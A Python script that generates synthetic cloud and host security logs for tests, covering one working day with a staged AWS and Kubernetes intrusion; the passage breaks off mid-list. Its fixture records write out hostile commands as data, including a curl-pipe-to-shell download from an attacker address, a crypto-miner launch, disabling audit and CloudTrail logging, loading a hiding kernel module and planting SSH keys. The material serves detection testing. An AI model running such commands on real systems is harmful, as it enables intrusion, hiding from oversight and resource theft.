#!/usr/bin/env python3
"""Writes the sample logs of `tests/events`: one working day of a small company, with an intrusion in it.

Everything is made up: account 111122223333, documentation addresses, example domains. The output is deterministic, and
committed, so that running the samples needs no Python.

The story, 2026-03-14 UTC. Benign all day: people in the console, a CI role that deploys, AWS services that act for
themselves, web traffic, resolvers, kubelets. From 02:11 on somebody uses a leaked access key of `dana` over Tor, looks
around, gives themselves keys and rights, blinds the logs, opens a bucket and a port, shares a snapshot. An instance
mines and calls home. In the cluster, the anonymous user reads secrets.
Sensors and scanners on the hosts see the miner, a kernel module and a web shell. In an office, sensors on the network see
a guessed password and calls to the same addresses.
"""
import gzip, hashlib, io, json, os, random
from datetime import datetime, timedelta, timezone

HERE = os.path.join(os.path.dirname(os.path.abspath(__file__)), "events")
ACCOUNT, REGION = "111122223333", "us-east-1"
DAY = datetime(2026, 3, 14, tzinfo=timezone.utc)
rng = random.Random(20260314)


def at(clock, plus=0):
    h, m, s = (int(x) for x in (clock + ":00")[:8].split(":"))
    return DAY + timedelta(hours=h, minutes=m, seconds=s + plus)


def iso(t):
    return t.strftime("%Y-%m-%dT%H:%M:%SZ")


def uuid(*parts):
    h = hashlib.md5("|".join(map(str, parts)).encode()).hexdigest()
    return f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}"


def write(path, text, packed=True):
    path = os.path.join(HERE, path)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    data = text.encode()
    if packed:
        buffer = io.BytesIO()
        with gzip.GzipFile(filename="", mode="wb", fileobj=buffer, mtime=0) as f:
            f.write(data)
        data = buffer.getvalue()
    with open(path, "wb") as f:
        f.write(data)


# ---- CloudTrail
def user(name, key=None, mfa=None):
    who = {"type": "IAMUser", "principalId": "AIDA" + hashlib.md5(name.encode()).hexdigest()[:16].upper(),
           "arn": f"arn:aws:iam::{ACCOUNT}:user/{name}", "accountId": ACCOUNT, "userName": name}
    if key:
        who["accessKeyId"] = key
    if mfa is not None:
        who["sessionContext"] = {"attributes": {"creationDate": iso(at("08:00")), "mfaAuthenticated": str(mfa).lower()}}
    return who


def role(name, session, service=None):
    who = {"type": "AssumedRole", "principalId": "AROA" + hashlib.md5(name.encode()).hexdigest()[:16].upper() + ":" + session,
           "arn": f"arn:aws:sts::{ACCOUNT}:assumed-role/{name}/{session}", "accountId": ACCOUNT,
           "accessKeyId": "ASIA" + hashlib.md5((name + session).encode()).hexdigest()[:16].upper(),
           "sessionContext": {"sessionIssuer": {"type": "Role", "principalId": "AROA" + hashlib.md5(name.encode()).hexdigest()[:16].upper(),
                                                "arn": f"arn:aws:iam::{ACCOUNT}:role/{name}", "accountId": ACCOUNT, "userName": name},
                              "attributes": {"creationDate": iso(at("00:00")), "mfaAuthenticated": "false"}}}
    if service:
        who["invokedBy"] = service
    return who


ROOT = {"type": "Root", "principalId": ACCOUNT, "arn": f"arn:aws:iam::{ACCOUNT}:root", "accountId": ACCOUNT}
trail = []


def call(time, who, service, name, ip, agent, request=None, response=None, error=None, read_only=None, kind="AwsApiCall",
         category="Management", **more):
    read_only = name.startswith(("Get", "List", "Describe", "Head", "Lookup")) if read_only is None else read_only
    event = {"eventVersion": "1.11", "userIdentity": who, "eventTime": iso(time), "eventSource": f"{service}.amazonaws.com",
             "eventName": name, "awsRegion": REGION, "sourceIPAddress": ip, "userAgent": agent}
    if error:
        event["errorCode"], event["errorMessage"] = error, "User is not authorized to perform this operation"
    event |= {"requestParameters": request, "responseElements": response,
              "requestID": uuid("request", time, name, len(trail)), "eventID": uuid("event", time, name, len(trail)),
              "readOnly": read_only, "eventType": kind, "managementEvent": category == "Management",
              "recipientAccountId": ACCOUNT, "eventCategory": category}
    trail.append(event | more)


CLI, CONSOLE = "aws-cli/2.22.4 md/awscrt#0.23.4 ua/2.0 os/linux#6.1.0 lang/python#3.12.6", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5)"
SDK, TERRAFORM = "aws-sdk-go-v2/1.30.3 os/linux lang/go#1.22.5", "APN/1.0 HashiCorp/1.0 Terraform/1.9.2"
KALI = "aws-cli/2.15.0 Python/3.11.9 Linux/6.8.11-amd64 source/x86_64.kali.2024 prompt/off"
OFFICE = ["192.0.2.10", "192.0.2.11", "192.0.2.12"]


def login(time, name, ip, mfa, ok=True):
    call(time, user(name), "signin", "ConsoleLogin", ip, CONSOLE, None, {"ConsoleLogin": "Success" if ok else "Failure"},
         read_only=False, kind="AwsConsoleSignIn",
         additionalEventData={"LoginTo": "https://console.aws.amazon.com/console/home", "MobileVersion": "No",
                              "MFAUsed": "Yes" if mfa else "No"}, **({} if ok else {"errorMessage": "Failed authentication"}))


def benign_trail():
    for i, name in enumerate(["alice", "bob", "carol"]):
        login(at(f"0{8 + i // 2}:{7 * i + 3:02}"), name, OFFICE[i], True)
        who = user(name, None, True)
        for k in range(40):
            t = at("09:00", rng.randrange(8 * 3600))
            service, api = rng.choice([("ec2", "DescribeInstances"), ("ec2", "DescribeSecurityGroups"), ("s3", "ListBuckets"), ("iam", "GetAccountSummary"),
                                       ("cloudwatch", "GetMetricData"), ("rds", "DescribeDBInstances"), ("lambda", "ListFunctions20150331")])
            call(t, who, service, api, OFFICE[i], CONSOLE, {}, None)
    login(at("08:59"), "carol", OFFICE[2], True, ok=False)
    for hour in range(24):  # the pipeline deploys, services act for themselves
        ci = role("ci-deploy", f"run-{4100 + hour}")
        for name, service, request in [("UpdateFunctionCode20150331v2", "lambda", {"functionName": "orders"}), ("DescribeStacks", "cloudformation", {}),
                                       ("PutObject", "s3", {"bucketName": "example-artifacts", "key": f"build/{hour}.zip"})]:
            data = name == "PutObject"
            call(at(f"{hour:02}:20"), ci, service, name, "192.0.2.50", TERRAFORM, request, None, category="Data" if data else "Management",
                 **({"resources": [{"ARN": f"arn:aws:s3:::example-artifacts", "type": "AWS::S3::Bucket", "accountId": ACCOUNT}]} if data else {}))
        scaling = role("AWSServiceRoleForAutoScaling", "AutoScaling", "autoscaling.amazonaws.com")
        call(at(f"{hour:02}:31"), scaling, "ec2", "RunInstances", "autoscaling.amazonaws.com", "autoscaling.amazonaws.com", {"instanceType": "m7g.large"})
        config = role("AWSServiceRoleForConfig", "AWSConfig-Describe", "config.amazonaws.com")
        for api in ("DescribeVolumes", "DescribeVpcs", "ListUsers"):
            call(at(f"{hour:02}:45"), config, "iam" if api == "ListUsers" else "ec2", api, "config.amazonaws.com", "config.amazonaws.com", {})
        app = role("orders-api", "i-0aa11bb22cc33dd44")
        for k in range(6):
            call(at(f"{hour:02}:{k * 9:02}"), app, "s3", "GetObject", "10.0.1.15", SDK, {"bucketName": "example-orders", "key": f"2026/{hour}-{k}.json"}, category="Data",
                 resources=[{"type": "AWS::S3::Object", "ARN": f"arn:aws:s3:::example-orders/2026/{hour}-{k}.json"},
                            {"accountId": ACCOUNT, "type": "AWS::S3::Bucket", "ARN": "arn:aws:s3:::example-orders"}])
    admin = user("alice", None, True)
    call(at("10:12"), admin, "ec2", "AuthorizeSecurityGroupIngress", OFFICE[0], CONSOLE, {"groupId": "sg-0aaa", "ipPermissions": {"items": [
        {"ipProtocol": "tcp", "fromPort": 443, "toPort": 443, "ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]}}]}}, {"_return": True})
    call(at("10:15"), admin, "ec2", "AuthorizeSecurityGroupIngress", OFFICE[0], CONSOLE, {"groupId": "sg-0bbb", "ipPermissions": {"items": [
        {"ipProtocol": "tcp", "fromPort": 22, "toPort": 22, "ipRanges": {"items": [{"cidrIp": "192.0.2.0/24"}]}}]}}, {"_return": True})
    call(at("11:02"), admin, "s3", "PutBucketPolicy", OFFICE[0], CONSOLE, {"bucketName": "example-artifacts", "bucketPolicy": {"Version": "2012-10-17", "Statement": [
        {"Effect": "Allow", "Principal": {"AWS": f"arn:aws:iam::{ACCOUNT}:role/ci-deploy"}, "Action": "s3:PutObject", "Resource": "arn:aws:s3:::example-artifacts/*"}]}})
    call(at("11:30"), user("bob", None, True), "cloudtrail", "StopLogging", OFFICE[1], CONSOLE, {"name": "main"}, error="AccessDenied")


def attack_trail():
    tor, key = "198.51.100.77", "AKIAEXAMPLEDANA00001"
    dana = user("dana", key)
    for i, (service, api) in enumerate([("sts", "GetCallerIdentity"), ("iam", "ListUsers"), ("iam", "ListAccessKeys"), ("s3", "ListBuckets"), ("ec2", "DescribeInstances")]):
        call(at("02:11", 20 * i), dana, service, api, tor, KALI, {})
    call(at("02:14"), dana, "iam", "CreateAccessKey", tor, KALI, {"userName": "bob"},
         {"accessKey": {"userName": "bob", "accessKeyId": "AKIAEXAMPLEBOB000002", "status": "Active", "createDate": "Mar 14, 2026, 2:14:00 AM"}})
    call(at("02:15"), dana, "iam", "CreateLoginProfile", tor, KALI, {"userName": "svc-backup", "passwordResetRequired": False}, {"loginProfile": {"userName": "svc-backup"}})
    call(at("02:16"), dana, "iam", "AttachUserPolicy", tor, KALI, {"userName": "dana", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"})
    call(at("02:18"), dana, "cloudtrail", "StopLogging", tor, KALI, {"name": f"arn:aws:cloudtrail:{REGION}:{ACCOUNT}:trail/main"})
    call(at("02:19"), dana, "ec2", "DeleteFlowLogs", tor, KALI, {"DeleteFlowLogsRequest": {"FlowLogId": {"tag": 1, "content": "fl-0123456789abcdef0"}}},
         {"DeleteFlowLogsResponse": {"unsuccessful": ""}})
    call(at("02:21"), dana, "organizations", "LeaveOrganization", tor, KALI, None, error="AccessDeniedException")
    call(at("02:24"), dana, "ec2", "AuthorizeSecurityGroupIngress", tor, KALI, {"groupId": "sg-0bbb", "ipPermissions": {"items": [
        {"ipProtocol": "tcp", "fromPort": 22, "toPort": 22, "groups": {}, "ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]}, "ipv6Ranges": {}}]}}, {"_return": True})
    call(at("02:26"), dana, "s3", "PutBucketPolicy", tor, KALI, {"bucketName": "example-orders", "Host": "example-orders.s3.amazonaws.com", "bucketPolicy": {
        "Version": "2012-10-17", "Statement": [{"Sid": "open", "Effect": "Allow", "Principal": "*", "Action": "s3:GetObject", "Resource": "arn:aws:s3:::example-orders/*"}]}})
    call(at("02:27"), dana, "ec2", "ModifySnapshotAttribute", tor, KALI, {"snapshotId": "snap-0123456789abcdef0", "attributeType": "CREATE_VOLUME_PERMISSION",
         "createVolumePermission": {"add": {"items": [{"userId": "444455556666"}]}}}, {"_return": True})
    call(at("02:29"), dana, "ec2", "GetPasswordData", tor, KALI, {"instanceId": "i-0ff00ee11dd22cc33"}, None)
    for k in range(12):
        call(at("02:31", 3 * k), dana, "s3", "GetObject", tor, KALI, {"bucketName": "example-orders", "key": f"2026/{k}-0.json"}, category="Data",
             resources=[{"type": "AWS::S3::Object", "ARN": f"arn:aws:s3:::example-orders/2026/{k}-0.json"}, {"accountId": ACCOUNT, "type": "AWS::S3::Bucket", "ARN": "arn:aws:s3:::example-orders"}],
             additionalEventData={"bytesTransferredOut": 18234, "bytesTransferredIn": 0, "x-amz-id-2": "example"})
    login(at("02:40"), "svc-backup", tor, False)
    call(at("02:52"), ROOT, "signin", "ConsoleLogin", "203.0.113.99", CONSOLE, None, {"ConsoleLogin": "Success"}, read_only=False, kind="AwsConsoleSignIn",
         additionalEventData={"LoginTo": "https://console.aws.amazon.com/console/home", "MobileVersion": "No", "MFAUsed": "No"})


def write_trail():
    benign_trail()
    attack_trail()
    trail.sort(key=lambda e: (e["eventTime"], e["eventID"]))
    for hour in range(0, 24, 4):
        records = [e for e in trail if hour <= int(e["eventTime"][11:13]) < hour + 4]
        name = f"{ACCOUNT}_CloudTrail_{REGION}_20260314T{hour:02}05Z_{uuid('file', hour)[:16].replace('-', 'x')}.json.gz"
        write(f"AWSLogs/{ACCOUNT}/CloudTrail/{REGION}/2026/03/14/{name}", json.dumps({"Records": records}, separators=(",", ":")))


# ---- VPC flow logs: version 5 with a header, and version 2 without
COLUMNS = ("version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status "
           "vpc-id subnet-id instance-id tcp-flags type pkt-srcaddr pkt-dstaddr region az-id flow-direction").split()


def flow(rows, time, eni, instance, src, dst, sport, dport, proto, packets, size, action, flags, direction, seconds=58):
    start = int(time.timestamp())
    rows.append((start, f"5 {ACCOUNT} {eni} {src} {dst} {sport} {dport} {proto} {packets} {size} {start} {start + seconds} {action} OK "
                 f"vpc-0aaa subnet-0bbb {instance} {flags} IPv4 {src} {dst} {REGION} use1-az1 {direction}"))


def write_flows():
    rows = []
    web, worker = ("eni-0web", "i-0aa11bb22cc33dd44", "10.0.1.15"), ("eni-0wrk", "i-0ff00ee11dd22cc33", "10.0.2.23")
    for k in range(700):  # visitors of the web server, both directions
        t, visitor, port = at("00:00", rng.randrange(86000)), f"198.18.{rng.randrange(4)}.{rng.randrange(1, 250)}", rng.randrange(32768, 60999)
        packets = rng.randrange(6, 40)
        flow(rows, t, web[0], web[1], visitor, web[2], port, 443, 6, packets, packets * 120, "ACCEPT", 3, "ingress")
        flow(rows, t, web[0], web[1], web[2], visitor, 443, port, 6, packets + 4, packets * 900, "ACCEPT", 19, "egress")
    for k in range(150):  # the worker asks package mirrors and the resolver
        t, port = at("00:00", rng.randrange(86000)), rng.randrange(32768, 60999)
        flow(rows, t, worker[0], worker[1], worker[2], "192.0.2.80", port, 443, 6, 20, 4100, "ACCEPT", 3, "egress")
        flow(rows, t, worker[0], worker[1], "192.0.2.80", worker[2], 443, port, 6, 30, 31000, "ACCEPT", 19, "ingress")
    for k in range(120):  # noise from outside, refused
        flow(rows, at("00:00", rng.randrange(86000)), web[0], web[1], f"203.0.113.{rng.randrange(120, 250)}", web[2], rng.randrange(40000, 60000),
             rng.choice([23, 22, 445, 3389, 8080]), 6, 1, 40, "REJECT", 2, "ingress")
    for k in range(24):  # mining, every few minutes
        flow(rows, at("03:05", 300 * k), worker[0], worker[1], worker[2], "203.0.113.66", 48112, 3333, 6, 40, 9100, "ACCEPT", 3 if k == 0 else 0, "egress")
        flow(rows, at("03:05", 300 * k), worker[0], worker[1], "203.0.113.66", worker[2], 3333, 48112, 6, 38, 8800, "ACCEPT", 19 if k == 0 else 0, "ingress")
    for k in range(6):  # calling home
        flow(rows, at("03:20", 1800 * k), worker[0], worker[1], worker[2], "203.0.113.13", 51200 + k, 443, 6, 12, 2200, "ACCEPT", 3, "egress")
    # a known scanner probes a port that answers, and one that does not
    flow(rows, at("13:37"), web[0], web[1], "192.0.2.200", web[2], 51515, 9200, 6, 2, 88, "ACCEPT", 2, "ingress")
    flow(rows, at("13:37"), web[0], web[1], web[2], "192.0.2.200", 9200, 51515, 6, 2, 88, "ACCEPT", 18, "egress")
    flow(rows, at("13:38"), web[0], web[1], "192.0.2.200", web[2], 51516, 6379, 6, 1, 44, "REJECT", 2, "ingress")
    # the reply to a probe from the mining pool's neighbourhood is no mining
    flow(rows, at("14:02"), web[0], web[1], "203.0.113.66", web[2], 40001, 443, 6, 2, 88, "ACCEPT", 2, "ingress")
    flow(rows, at("14:02"), web[0], web[1], web[2], "203.0.113.66", 443, 40001, 6, 2, 88, "ACCEPT", 18, "egress")
    rows.sort()
    for part, (first, last) in enumerate([(0, 43200), (43200, 86400)]):
        base = int(DAY.timestamp())
        text = [" ".join(COLUMNS)] + [r for s, r in rows if first <= s - base < last]
        stamp = f"20260314T{12 * part + 5:02}00Z"
        write(f"AWSLogs/{ACCOUNT}/vpcflowlogs/{REGION}/2026/03/14/{ACCOUNT}_vpcflowlogs_{REGION}_fl-0123456789abcdef0_{stamp}_{uuid('flow', part)[:8]}.log.gz", "\n".join(text) + "\n")
    start = int(at("05:00").timestamp())
    plain = [f"2 {ACCOUNT} eni-0db 10.0.3.7 10.0.1.15 5432 {40000 + k} 6 14 2900 {start + 60 * k} {start + 60 * k + 55} ACCEPT OK" for k in range(30)]
    plain.append(f"2 {ACCOUNT} eni-0idle - - - - - - - {start} {start + 600} - NODATA")
    write("vpc-flow-v2.log", "\n".join(plain) + "\n", packed=False)


# ---- Route 53 Resolver
def write_dns():
    rows = []

    def ask(time, name, kind="A", rcode="NOERROR", answers=(), instance="i-0ff00ee11dd22cc33", src="10.0.2.23"):
        rows.append((time, {"version": "1.100000", "account_id": ACCOUNT, "region": REGION, "vpc_id": "vpc-0aaa", "query_timestamp": iso(time),
                            "query_name": name + ".", "query_type": kind, "query_class": "IN", "rcode": rcode,
                            "answers": [{"Rdata": a, "Type": kind, "Class": "IN"} for a in answers], "srcaddr": src, "srcport": str(rng.randrange(32768, 60999)),
                            "transport": "UDP", "srcids": {"instance": instance}}))

    names = ["mirror.example.com", "api.example.org", "orders.internal.example.com", "sqs.us-east-1.amazonaws.com", "example-orders.s3.amazonaws.com", "ntp.example.net"]
    for k in range(420):
        instance, src = rng.choice([("i-0ff00ee11dd22cc33", "10.0.2.23"), ("i-0aa11bb22cc33dd44", "10.0.1.15")])
        ask(at("00:00", rng.randrange(86000)), rng.choice(names), answers=[f"192.0.2.{rng.randrange(80, 90)}"], instance=instance, src=src)
    ask(at("09:30"), "typo.exampel.com", rcode="NXDOMAIN")
    ask(at("03:04"), "eu1.pool.example-mining.net", answers=["203.0.113.66"])
    ask(at("03:19"), "cdn.update-check.example", answers=["203.0.113.13"])
    ask(at("03:19", 5), "not-update-check.example", answers=["192.0.2.85"])
    ask(at("04:44"), "rebind.attacker.example", answers=["169.254.169.254"], instance="i-0aa11bb22cc33dd44", src="10.0.1.15")
    rows.sort(key=lambda r: r[0])
    text = "\n".join(json.dumps(r, separators=(",", ":")) for _, r in rows) + "\n"
    write(f"AWSLogs/{ACCOUNT}/vpcdnsquerylogs/vpc-0aaa/2026/03/14/vpc-0aaa_vpcdnsquerylogs_{ACCOUNT}_20260314T0000Z_{uuid('dns')[:8]}.log.gz", text)


# ---- Kubernetes audit log, as a subscription of the cluster's log group delivers it
def write_eks():
    rows = []

    def audit(time, who, verb, resource, code, ip, agent, namespace=None, name=None, sub=None, groups=("system:authenticated",), request=None, uri=None):
        ref = {"resource": resource, "apiVersion": "v1"}
        ref |= {k: v for k, v in (("namespace", namespace), ("name", name), ("subresource", sub)) if v}
        if resource.endswith("rolebindings"):
            ref["apiGroup"] = "rbac.authorization.k8s.io"
        event = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "RequestResponse" if request else "Metadata", "auditID": uuid("audit", len(rows)),
                 "stage": "ResponseComplete", "requestURI": uri or f"/api/v1/{'namespaces/' + namespace + '/' if namespace else ''}{resource}{'/' + name if name else ''}",
                 "verb": verb, "user": {"username": who, "groups": list(groups)}, "sourceIPs": [ip], "userAgent": agent, "objectRef": ref,
                 "responseStatus": {"metadata": {}, "code": code}, "requestReceivedTimestamp": time.strftime("%Y-%m-%dT%H:%M:%S.000000Z"),
                 "stageTimestamp": time.strftime("%Y-%m-%dT%H:%M:%S.012000Z"),
                 "annotations": {"authorization.k8s.io/decision": "allow" if code < 400 else "forbid"}}
        if request:
            event["requestObject"] = request
        rows.append((time, event))

    for k in range(160):
        node = f"ip-10-0-4-{rng.randrange(10, 14)}.ec2.internal"
        audit(at("00:00", rng.randrange(86000)), f"system:node:{node}", rng.choice(["get", "list", "watch", "patch"]), rng.choice(["pods", "nodes", "configmaps"]), 200,
              "10.0.4.11", "kubelet/v1.31.4 (linux/arm64) kubernetes/a1b2c3d", "default", groups=("system:nodes", "system:authenticated"))
    for k in range(60):
        audit(at("00:00", rng.randrange(86000)), "system:serviceaccount:kube-system:deployment-controller", "update", "deployments", 200, "10.0.4.2",
              "kube-controller-manager/v1.31.4", "shop", "orders", groups=("system:serviceaccounts", "system:authenticated"))
    audit(at("09:40"), "alice", "create", "pods", 101, OFFICE[0], "kubectl/v1.31.0 (darwin/arm64)", "shop", "orders-7d4b9c", "exec", groups=("developers", "system:authenticated"))
    audit(at("03:51"), "system:anonymous", "list", "secrets", 403, "198.51.100.77", "curl/8.5.0", "kube-system", groups=("system:unauthenticated",))
    audit(at("03:58"), "system:anonymous", "list", "secrets", 200, "198.51.100.77", "curl/8.5.0", "default", groups=("system:unauthenticated",))
    audit(at("04:03"), "dana", "create", "pods", 101, "198.51.100.77", "kubectl/v1.29.2 (linux/amd64)", "kube-system", "coredns-5d78c9869d-x2lqz", "exec")
    audit(at("04:09"), "dana", "create", "clusterrolebindings", 201, "198.51.100.77", "kubectl/v1.29.2 (linux/amd64)", None, "default-admin",
          request={"kind": "ClusterRoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": "default-admin"},
                   "subjects": [{"kind": "ServiceAccount", "name": "default", "namespace": "default"}],
                   "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"}})
    audit(at("10:20"), "alice", "get", "pods", 200, OFFICE[0], "kubectl/v1.31.0 (darwin/arm64)", "shop", groups=("developers", "system:authenticated"))
    rows.sort(key=lambda r: r[0])
    lines = []
    for first in range(0, len(rows), 40):
        batch = rows[first:first + 40]
        lines.append(json.dumps({"messageType": "DATA_MESSAGE", "owner": ACCOUNT, "logGroup": "/aws/eks/shop/cluster",
                                 "logStream": "kube-apiserver-audit-0123456789abcdef", "subscriptionFilters": ["to-archive"],
                                 "logEvents": [{"id": f"{36000000000000000000 + first + i}", "timestamp": int(t.timestamp() * 1000),
                                                "message": json.dumps(e, separators=(",", ":"))} for i, (t, e) in enumerate(batch)]}, separators=(",", ":")))
    write("eks/shop-audit-2026-03-14.json.gz", "\n".join(lines) + "\n")


# ---- findings of another detector, as its event bus delivers them
def write_findings():
    lines = []
    for k, (kind, severity, title) in enumerate([
            ("Recon:EC2/PortProbeUnprotectedPort", 2, "Unprotected port on EC2 instance i-0aa11bb22cc33dd44 is being probed."),
            ("CryptoCurrency:EC2/BitcoinTool.B!DNS", 8, "EC2 instance i-0ff00ee11dd22cc33 is querying a domain name associated with mining.")]):
        first = at("13:37") if k == 0 else at("03:04")
        uid = hashlib.md5(kind.encode()).hexdigest()
        detail = {"schemaVersion": "2.0", "accountId": ACCOUNT, "region": REGION, "partition": "aws", "id": uid,
                  "arn": f"arn:aws:guardduty:{REGION}:{ACCOUNT}:detector/0123456789abcdef0123456789abcdef/finding/{uid}",
                  "type": kind, "severity": severity, "title": title, "description": title, "createdAt": iso(first), "updatedAt": iso(first),
                  "resource": {"resourceType": "Instance", "instanceDetails": {"instanceId": "i-0aa11bb22cc33dd44" if k == 0 else "i-0ff00ee11dd22cc33"}},
                  "service": {"serviceName": "guardduty", "detectorId": "0123456789abcdef0123456789abcdef", "archived": False, "count": 1,
                              "eventFirstSeen": iso(first), "eventLastSeen": iso(first), "resourceRole": "TARGET" if k == 0 else "ACTOR"}}
        lines.append(json.dumps({"version": "0", "id": uuid("finding", k), "detail-type": "GuardDuty Finding", "source": "aws.guardduty", "account": ACCOUNT,
                                 "time": iso(first), "region": REGION, "resources": [], "detail": detail}, separators=(",", ":")))
    write("guardduty/findings-2026-03-14.ndjson", "\n".join(lines) + "\n", packed=False)


# ---- sensors and scanners on the hosts: a few records of each
def lines(path, rows):
    write(path, "\n".join(json.dumps(r, separators=(",", ":")) for r in rows) + "\n", packed=False)


def write_sensors():
    def falco(time, rule, priority="Notice", **fields):
        fields = {k.replace("__", "."): v for k, v in fields.items()}
        return {"hostname": "i-0ff00ee11dd22cc33.ec2.internal", "output": rule, "output_fields": {"evt.time": int(time.timestamp()) * 10**9} | fields,
                "priority": priority, "rule": rule, "source": "syscall", "tags": ["host"], "time": time.strftime("%Y-%m-%dT%H:%M:%S.000000000Z")}

    host = {"container__id": "host", "user__name": "www-data", "user__uid": 33, "k8s__pod__name": None}
    lines("runtime/falco.ndjson", [
        falco(at("03:02"), "Program started", evt__type="execve", proc__name="sh", proc__exepath="/usr/bin/dash", proc__cmdline="sh -c curl -fsSL http://203.0.113.13/i.sh | sh",
              proc__pname="nginx", proc__pexepath="/usr/sbin/nginx", proc__pcmdline="nginx: worker process", proc__tty=0, **host),
        falco(at("03:04"), "Program started", evt__type="execve", proc__name="kworkerd", proc__exepath="/tmp/.x/kworkerd", proc__cmdline="kworkerd -o stratum+tcp://eu1.pool.example-mining.net:3333 -u x",
              proc__pname="sh", proc__tty=0, **host),
        falco(at("03:05"), "Connection", evt__type="connect", proc__name="kworkerd", proc__exepath="/tmp/.x/kworkerd", proc__cmdline="kworkerd", proc__pname="sh",
              fd__type="ipv4", fd__name="10.0.2.23:48112->203.0.113.66:3333", fd__lip="10.0.2.23", fd__lport=48112, fd__rip="203.0.113.66", fd__rport=3333, fd__l4proto="tcp", **host),
        falco(at("03:06"), "File opened", evt__type="openat", proc__name="python3", proc__exepath="/usr/bin/python3.11", proc__cmdline="python3 -", proc__pname="sh",
              fd__type="file", fd__name="/etc/cron.d/update", evt__arg__flags="O_TRUNC|O_CREAT|O_WRONLY|O_F_CREATED", **host),
        falco(at("09:00"), "Program started", evt__type="execve", proc__name="ls", proc__exepath="/usr/bin/ls", proc__cmdline="ls -l", proc__pname="bash", proc__tty=34816, **host),
        falco(at("09:10"), "Docker socket", evt__type="connect", proc__name="curl", proc__exepath="/usr/bin/curl", proc__cmdline="curl --unix-socket /run/docker.sock http://d/info", proc__pname="sh",
              fd__type="unix", fd__name="ffff9b1c0->ffff9b1c4 /run/docker.sock", **(host | {"container__id": "4fa6e0f0c678", "container__name": "ci", "container__image__repository": "example/ci"}))])

    def tetragon(kind, time, binary, arguments, parent="/usr/bin/containerd-shim-runc-v2", pid=4120, pod=True, **more):
        process = {"exec_id": uuid("exec", time, binary), "pid": pid, "uid": 0, "cwd": "/", "binary": binary, "arguments": arguments, "flags": "execve clone", "start_time": iso(time), "auid": 4294967295}
        if pod:
            process["pod"] = {"namespace": "shop", "name": "orders-7d4b9c", "container": {"id": "containerd://" + "8c2f1e" * 10 + "8c2f", "name": "orders",
                              "image": {"id": "sha256:0", "name": "example/orders:1"}, "start_time": iso(at("00:10")), "pid": 12}}
        return {kind: {"process": process, "parent": {"exec_id": uuid("parent", binary), "pid": 77, "uid": 0, "binary": parent, "arguments": "", "start_time": iso(at("00:10"))}} | more,
                "node_name": "ip-10-0-4-11.ec2.internal", "time": time.strftime("%Y-%m-%dT%H:%M:%S.123456789Z"), "cluster_name": "shop"}

    sock = {"sock_arg": {"family": "AF_INET", "type": "SOCK_STREAM", "protocol": "IPPROTO_TCP", "saddr": "10.0.4.30", "daddr": "203.0.113.13", "sport": 51300, "dport": 443}}
    lines("runtime/tetragon.ndjson", [
        tetragon("process_exec", at("04:05"), "/usr/bin/nsenter", "-t 1 -m -u -i -n -p -- bash", "/usr/bin/bash"),
        tetragon("process_exec", at("09:41"), "/usr/bin/ls", "-l /srv"),
        tetragon("process_kprobe", at("04:06"), "/usr/bin/curl", "https://cdn.update-check.example/x", "/usr/bin/bash", function_name="tcp_connect", args=[sock], action="KPROBE_ACTION_POST"),
        tetragon("process_kprobe", at("04:07"), "/tmp/inject", "812", "/usr/bin/bash", function_name="__x64_sys_ptrace", args=[{"int_arg": 4}, {"int_arg": 812}], action="KPROBE_ACTION_POST"),
        tetragon("process_kprobe", at("04:08"), "/usr/bin/bash", "", "/usr/bin/bash", function_name="security_file_permission", args=[{"file_arg": {"path": "/etc/ld.so.preload"}}, {"int_arg": 2}], action="KPROBE_ACTION_POST"),
        tetragon("process_loader", at("04:09"), "/usr/sbin/sshd", "-D", path="/usr/lib/x86_64-linux-gnu/libc.so.6", buildid="AAAA"),
        tetragon("process_dns", at("04:06"), "/usr/bin/curl", "", "/usr/bin/bash", dns={"names": ["cdn.update-check.example."], "question_types": ["A"], "rcode": 0, "ips": ["203.0.113.13"]})])

    def laurel(time, serial, call, comm, exe, argv=None, ppid=1081, **more):
        base = {"arch": "0xc000003e", "syscall": 59, "success": "yes", "exit": 0, "ppid": ppid, "pid": 2000 + serial, "auid": 1000, "uid": 0, "gid": 0, "euid": 0, "tty": "(none)", "comm": comm, "exe": exe,
                "ARCH": "x86_64", "SYSCALL": call, "UID": "root", "EUID": "root"}
        event = {"ID": f"{int(time.timestamp())}.375:{serial}", "NODE": "i-0aa11bb22cc33dd44", "SYSCALL": base | more.pop("syscall", {})} | more
        return event | ({"EXECVE": {"argc": len(argv), "ARGV": argv}} if argv else {})

    parent = {"PPID": {"EVENT_ID": "1.0:1", "comm": "sh", "exe": "/usr/bin/dash", "ppid": 1}}
    lines("runtime/auditd.ndjson", [
        laurel(at("03:07"), 501, "execve", "auditctl", "/usr/sbin/auditctl", ["auditctl", "-e", "0"], CWD={"cwd": "/root"}, **parent),
        laurel(at("03:08"), 502, "finit_module", "insmod", "/usr/bin/kmod", syscall={"ARGV": ["0x3", "0x0", "0x0", "0x0"]}, KERN_MODULE=[{"name": "hideme"}], PATH=[{"item": 0, "name": "hideme.ko", "nametype": "NORMAL"}], CWD={"cwd": "/tmp"}, **parent),
        laurel(at("03:09"), 503, "connect", "x", "/tmp/x", SOCKADDR=[{"saddr": "0x0200", "SADDR": {"fam": "inet", "addr": "203.0.113.13", "port": 443}}], **parent),
        laurel(at("03:10"), 504, "openat", "x", "/tmp/x", syscall={"ARGV": ["0xffffff9c", "0x55d0", "0x441", "0x1b6"]}, CWD={"cwd": "/root"},
               PATH=[{"item": 0, "name": ".ssh/", "nametype": "PARENT"}, {"item": 1, "name": ".ssh/authorized_keys", "nametype": "NORMAL"}], **parent),
        laurel(at("09:20"), 505, "execve", "ls", "/usr/bin/ls", ["ls", "-l"], CWD={"cwd": "/root"}, **parent)])

    scanned = {"account": ACCOUNT, "region": REGION}
    lines("scans/clamav.ndjson", [
